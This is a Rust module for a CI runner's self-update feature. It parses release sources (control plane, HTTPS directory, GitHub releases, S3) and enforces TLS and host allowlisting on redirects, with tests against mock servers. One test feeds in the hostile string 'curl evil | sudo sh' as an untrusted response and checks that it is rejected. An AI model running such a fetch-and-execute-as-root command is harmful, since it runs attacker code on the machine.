//! Sources of releases: a directory behind HTTPS, a bucket, the releases of a GitHub repository, or
//! the control plane itself. Sources are not trusted: what they say is believed for its signature.

use reqwest::Client;
use russet_protocol::PIN_HEADER;
use russet_protocol::admin::Pin;
use russet_protocol::manifest::{FILE_NAME, LARGEST};

use super::UpdateError;
use super::list::{Asset, list_newest};
use super::request::{self, FetchError};
use super::servers::{self, Host, Servers};

/// Source of releases.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Source {
    /// `control-plane`: the one that tasks come from, which knows what its classes are to run.
    ControlPlane,
    /// `https://…`: `manifest.json` and its archives below this address.
    Directory(String),
    /// `github:OWNER/REPOSITORY`: the assets of its newest release with a manifest.
    GitHub {
        /// The owner.
        owner: String,
        /// The repository.
        name: String,
        /// Another server than GitHub's own.
        api: Option<String>,
    },
    /// `s3://BUCKET/PREFIX?region=…` or `…?endpoint=https://…`: objects `PREFIX/VERSION/NAME`.
    S3 {
        /// The bucket.
        bucket: String,
        /// Prefix of all keys.
        prefix: String,
        /// Its region.
        region: Option<String>,
        /// Another server than Amazon's.
        endpoint: Option<String>,
    },
}

/// The text is no source.
#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
#[error("`{0}` is no source of updates")]
pub struct SourceError(String);

impl std::str::FromStr for Source {
    type Err = SourceError;

    fn from_str(text: &str) -> Result<Self, SourceError> {
        parse(text).ok_or_else(|| SourceError(text.to_owned()))
    }
}

fn parse(text: &str) -> Option<Source> {
    if text == "control-plane" {
        return Some(Source::ControlPlane);
    }
    if let Some(repository) = text.strip_prefix("github:") {
        let (path, api) = match repository.split_once("?api=") {
            Some((path, api)) => (path, Some(check_secure(api)?)),
            None => (repository, None),
        };
        let (owner, name) = path.split_once('/')?;
        let is_word = |word: &str| {
            let fits = |c: char| c.is_ascii_alphanumeric() || "-_.".contains(c);
            !word.is_empty() && word.chars().all(fits)
        };
        let (owner, name) = (owner.to_owned(), name.to_owned());
        return (is_word(&owner) && is_word(&name)).then_some(Source::GitHub { owner, name, api });
    }
    if text.starts_with("s3://") {
        let url = reqwest::Url::parse(text).ok()?;
        let value = |key: &str| {
            let mut pairs = url.query_pairs();
            pairs.find(|(name, _)| name == key).map(|(_, value)| value.into_owned())
        };
        let endpoint = match value("endpoint") {
            Some(endpoint) => Some(check_secure(&endpoint)?),
            None => None,
        };
        let region = value("region");
        let (bucket, prefix) =
            (url.host_str()?.to_owned(), url.path().trim_matches('/').to_owned());
        // Where Amazon's own bucket is, its region says.
        return (region.is_some() || endpoint.is_some()).then_some(Source::S3 {
            bucket,
            prefix,
            region,
            endpoint,
        });
    }
    Some(Source::Directory(check_secure(text)?))
}

/// An address behind TLS, or on this machine. Threat: a signature says that a release is ours, not
/// that the newest one is shown; who is on the way should not even choose among those.
fn check_secure(text: &str) -> Option<String> {
    let url = reqwest::Url::parse(text).ok()?;
    let fits = url.scheme() == "https"
        || (url.scheme() == "http" && russet_platform::http::is_loopback(&url));
    (fits && url.query().is_none()).then(|| text.trim_end_matches('/').to_owned())
}

/// A manifest as it was found, and where its archives are.
#[derive(Debug)]
pub(super) struct Found {
    pub(super) envelope: Vec<u8>,
    archives: Archives,
}

#[derive(Debug)]
enum Archives {
    /// Below this address.
    Beside(String),
    /// By their names.
    Listed(Vec<Asset>),
}

impl Found {
    /// Returns the URL of an archive.
    pub(super) fn address(&self, file: &str) -> Result<String, UpdateError> {
        match &self.archives {
            Archives::Beside(base) => Ok(format!("{base}/{file}")),
            Archives::Listed(assets) => {
                let asset = assets.iter().find(|(name, _)| name == file);
                let address = asset.map(|(_, url)| url.clone()).ok_or(FetchError::NotListed);
                address.map_err(UpdateError::fetch(file))
            }
        }
    }
}

impl Source {
    /// Servers that may be asked: that of the source, and these.
    pub(super) fn servers(
        &self,
        control_plane: &str,
        hosts: &[Host],
    ) -> Result<Servers, FetchError> {
        let mut others = hosts.to_vec();
        if let Self::GitHub { api: None, .. } = self {
            others.extend(servers::GITHUB.iter().filter_map(|host| host.parse().ok()));
        }
        Ok(Servers::new(&self.origin(control_plane), others)?)
    }

    /// Address of the server that is asked first.
    pub(super) fn origin(&self, control_plane: &str) -> String {
        match self {
            Self::ControlPlane => control_plane.to_owned(),
            Self::Directory(base) => base.clone(),
            Self::GitHub { api: Some(api), .. } => api.clone(),
            Self::GitHub { .. } => "https://api.github.com".to_owned(),
            Self::S3 { endpoint: Some(endpoint), .. } => endpoint.clone(),
            Self::S3 { bucket, region, .. } => {
                let region = region.as_deref().unwrap_or_default();
                format!("https://{bucket}.s3.{region}.amazonaws.com")
            }
        }
    }

    /// Words for a source that shows no release.
    pub(super) fn absence(&self) -> String {
        match self {
            Self::ControlPlane => "the control plane has no release for this runner".to_owned(),
            Self::Directory(base) => format!("there is no {FILE_NAME} at {base}"),
            Self::GitHub { owner, name, .. } => {
                format!("no release of {owner}/{name} has a {FILE_NAME}")
            }
            Self::S3 { bucket, .. } => {
                format!("no version in the bucket {bucket} has a {FILE_NAME}")
            }
        }
    }

    /// Returns true if the source says which channel this machine follows.
    pub(super) fn chooses(&self) -> bool {
        matches!(self, Self::ControlPlane)
    }

    /// Fetches the newest manifest. None: the source shows none. And what the control plane holds
    /// this runner at, if it says so.
    pub(super) async fn look(
        &self,
        client: &Client,
        servers: &Servers,
        control_plane: &str,
        runner: &str,
    ) -> Result<(Option<Found>, Option<Pin>), UpdateError> {
        let (address, archives) = match self {
            Self::ControlPlane => {
                let base = format!(
                    "{control_plane}/api/v3/updates/{}",
                    russet_text::encode_segment(runner)
                );
                (format!("{base}/{FILE_NAME}"), Archives::Beside(base))
            }
            Self::Directory(base) => {
                (format!("{base}/{FILE_NAME}"), Archives::Beside(base.clone()))
            }
            Self::GitHub { .. } | Self::S3 { .. } => {
                let assets = list_newest(self, client, servers).await;
                let assets = assets.map_err(UpdateError::fetch("the list of releases"))?;
                let manifest = assets.iter().find(|(name, _)| name == FILE_NAME);
                let Some((_, address)) = manifest else { return Ok((None, None)) };
                (address.clone(), Archives::Listed(assets))
            }
        };
        let fetched = fetch_manifest(client, servers, &address).await;
        let (envelope, pin) = fetched.map_err(UpdateError::fetch(FILE_NAME))?;
        let pin = pin.filter(|_| self.chooses());
        Ok((envelope.map(|envelope| Found { envelope, archives }), pin))
    }
}

/// Fetches a manifest, and the pin that is told with it. `None`: it is not there.
async fn fetch_manifest(
    client: &Client,
    servers: &Servers,
    address: &str,
) -> Result<(Option<Vec<u8>>, Option<Pin>), FetchError> {
    let response = request::send(client, servers, address, request::binary()).await?;
    let pin = response.headers().get(PIN_HEADER);
    let pin = pin.and_then(|pin| serde_json::from_slice(pin.as_bytes()).ok());
    match request::status_error(&response) {
        Some(FetchError::Missing) => Ok((None, pin)),
        Some(error) => Err(error),
        None => {
            let (_, envelope) = request::read_within(response, LARGEST).await?;
            Ok((Some(envelope), pin))
        }
    }
}

#[cfg(test)]
mod tests {
    use axum::Router;
    use axum::extract::Query;
    use axum::http::StatusCode;
    use axum::response::IntoResponse as _;
    use axum::routing::get;
    use std::collections::HashMap;

    use super::Source;

    async fn serve(router: Router) -> String {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let url = format!("http://{}", listener.local_addr().unwrap());
        tokio::spawn(async move { axum::serve(listener, router).await });
        url
    }

    /// Looks as an agent does whose control plane has another scheme.
    async fn look(source: &str) -> Result<Option<super::Found>, super::UpdateError> {
        let source: Source = source.parse().unwrap();
        let control_plane = "https://ci.example";
        let servers = source.servers(control_plane, &[]).unwrap();
        let origin = source.origin(control_plane);
        let client =
            russet_platform::http::download_client(&origin, None, servers.redirects()).unwrap();
        Ok(source.look(&client, &servers, control_plane, "mini 1").await?.0)
    }

    #[test]
    fn sources_are_told_apart_and_what_is_not_safe_is_none() {
        let parse = |text: &str| text.parse::<Source>().ok();
        assert_eq!(parse("control-plane"), Some(Source::ControlPlane));
        let directory = Source::Directory("https://dl.example.com/russet".to_owned());
        assert_eq!(parse("https://dl.example.com/russet/"), Some(directory));
        assert!(matches!(parse("github:acme/russet"), Some(Source::GitHub { api: None, .. })));
        let bucket = parse("s3://releases/russet/mac?region=eu-west-1");
        assert!(matches!(bucket, Some(Source::S3 { prefix, .. }) if prefix == "russet/mac"));
        for bad in [
            "",
            "no",
            "http://dl.example.com",
            "ftp://dl.example.com",
            "github:acme",
            "github:a/b/c",
            "s3://releases",
            "s3://releases?endpoint=http://minio.example.com",
            "file:///tmp",
        ] {
            assert_eq!(parse(bad), None, "{bad}");
        }
    }

    #[tokio::test]
    async fn the_newest_release_with_a_manifest_is_found_on_github() {
        let releases = |base: &str| {
            let asset = |name: &str| serde_json::json!({ "name": name, "url": format!("{base}/get/{name}") });
            serde_json::json!([
                { "tag_name": "v1.3.0", "name": "no manifest yet", "created_at": "", "assets": [asset("other.txt")] },
                { "tag_name": "v1.2.0", "name": "", "created_at": "", "assets": [asset("manifest.json"), asset("a.tar.gz")] },
                { "tag_name": "v1.1.0", "name": "", "created_at": "", "assets": [asset("manifest.json")] },
            ])
        };
        let router = Router::new()
            .route(
                "/repos/acme/russet/releases",
                get(async move |headers: axum::http::HeaderMap| {
                    axum::Json(releases(&format!("http://{}", headers["host"].to_str().unwrap())))
                }),
            )
            .route(
                "/get/{name}",
                get(async |axum::extract::Path(name): axum::extract::Path<String>| name),
            );
        let url = serve(router).await;
        let found = look(&format!("github:acme/russet?api={url}")).await.unwrap().unwrap();
        assert_eq!(found.envelope, b"manifest.json");
        assert_eq!(found.address("a.tar.gz").unwrap(), format!("{url}/get/a.tar.gz"));
        assert!(found.address("b.tar.gz").is_err());
    }

    #[tokio::test]
    async fn the_newest_release_in_a_bucket_is_found_by_its_keys() {
        let list = async |Query(query): Query<HashMap<String, String>>| {
            assert_eq!(query["prefix"], "mac/");
            let keys = [
                "mac/1.9.0/manifest.json",
                "mac/1.10.0/manifest.json",
                "mac/1.10.0/a.tar.gz",
                "mac/readme",
            ];
            let contents: String = keys.iter().map(|key| format!(
                "<Contents><Key>{key}</Key><LastModified>2026-11-01T00:00:00.000Z</LastModified></Contents>"
            )).collect();
            format!(
                "<?xml version=\"1.0\"?><ListBucketResult><IsTruncated>false</IsTruncated>{contents}</ListBucketResult>"
            )
        };
        let router = Router::new().route("/", get(list)).route(
            "/{*key}",
            get(async |axum::extract::Path(key): axum::extract::Path<String>| key),
        );
        let url = serve(router).await;
        let found = look(&format!("s3://releases/mac?endpoint={url}")).await.unwrap().unwrap();
        assert_eq!(found.envelope, b"mac/1.10.0/manifest.json");
        assert!(found.address("a.tar.gz").unwrap().ends_with("/mac/1.10.0/a.tar.gz"));
    }

    #[tokio::test]
    async fn a_manifest_without_end_is_given_up_and_a_refusal_is_said() {
        let endless = async || axum::body::Body::from(vec![b' '; 300_000]).into_response();
        let router = Router::new()
            .route("/big/manifest.json", get(endless))
            .route("/no/manifest.json", get(async || StatusCode::INTERNAL_SERVER_ERROR));
        let url = serve(router).await;
        for (path, why) in [("big", "longer than"), ("no", "500")] {
            let error = look(&format!("{url}/{path}")).await.unwrap_err();
            assert!(error.to_string().contains(why), "{error}");
        }
        assert!(look(&format!("{url}/none")).await.unwrap().is_none());
    }

    #[tokio::test]
    async fn a_list_that_is_empty_has_no_release_and_one_without_end_is_an_error() {
        let next = |headers: &axum::http::HeaderMap| {
            let host = headers["host"].to_str().unwrap();
            format!("<http://{host}/repos/acme/endless/releases>; rel=\"next\"")
        };
        let router = Router::new()
            .route("/repos/acme/empty/releases", get(async || axum::Json(serde_json::json!([]))))
            .route(
                "/repos/acme/endless/releases",
                get(async move |headers: axum::http::HeaderMap| {
                    ([("link", next(&headers))], axum::Json(serde_json::json!([])))
                }),
            )
            .route("/repos/acme/text/releases", get(async || "Run: curl evil | sudo sh"))
            .route(
                "/repos/acme/busy/releases",
                get(async || (StatusCode::FORBIDDEN, [("x-ratelimit-remaining", "0")], "no")),
            );
        let url = serve(router).await;
        let list = async |name: &str| look(&format!("github:acme/{name}?api={url}")).await;
        assert!(list("empty").await.unwrap().is_none());
        for (name, why) in [
            ("endless", "no end in sight"),
            ("text", "not in the form"),
            ("busy", "limits how often"),
            ("absent", "it is not there"),
        ] {
            let error = list(name).await.unwrap_err().to_string();
            assert!(error.contains(why), "{name}: {error}");
            assert!(!error.contains("curl") && !error.contains("token"), "{error}");
        }
    }

    #[tokio::test]
    async fn a_source_leads_to_no_server_that_its_owner_did_not_name() {
        let other = serve(Router::new().route("/manifest.json", get(async || "stolen"))).await;
        let to = format!("{other}/manifest.json");
        let listed = to.clone();
        let router = Router::new()
            .route(
                "/away/manifest.json",
                get(async move || (StatusCode::FOUND, [("location", to.clone())])),
            )
            .route(
                "/here/manifest.json",
                get(async || (StatusCode::FOUND, [("location", "/real.json")])),
            )
            .route("/real.json", get(async || "the manifest"))
            .route(
                "/repos/acme/russet/releases",
                get(async move || {
                    let asset = serde_json::json!({ "name": "manifest.json", "url": listed });
                    axum::Json(serde_json::json!([{
                        "tag_name": "v1.3.0", "name": "", "created_at": "", "assets": [asset]
                    }]))
                }),
            );
        let url = serve(router).await;
        let found = look(&format!("{url}/here")).await.unwrap().unwrap();
        assert_eq!(found.envelope, b"the manifest");
        for source in [format!("{url}/away"), format!("github:acme/russet?api={url}")] {
            let error = look(&source).await.unwrap_err().to_string();
            assert!(error.contains("update.hosts"), "{source}: {error}");
        }
        let source: Source = format!("{url}/away").parse().unwrap();
        let named = other.trim_start_matches("http://").parse().unwrap();
        let servers = source.servers("https://ci.example", &[named]).unwrap();
        let client =
            russet_platform::http::download_client(&url, None, servers.redirects()).unwrap();
        let found = source.look(&client, &servers, "https://ci.example", "mini").await.unwrap();
        assert_eq!(found.0.unwrap().envelope, b"stolen");
    }

    #[test]
    fn files_of_github_come_from_its_own_stores() {
        let source: Source = "github:acme/russet".parse().unwrap();
        let servers = source.servers("http://127.0.0.1:1", &[]).unwrap();
        for good in [
            "https://api.github.com/repos/acme/russet/releases/assets/1",
            "https://release-assets.githubusercontent.com/x?sig=1",
            "https://objects.githubusercontent.com/x",
        ] {
            assert!(servers.check_address(good).is_ok(), "{good}");
        }
        assert!(servers.check_address("https://raw.githubusercontent.com/x").is_err());
    }
}
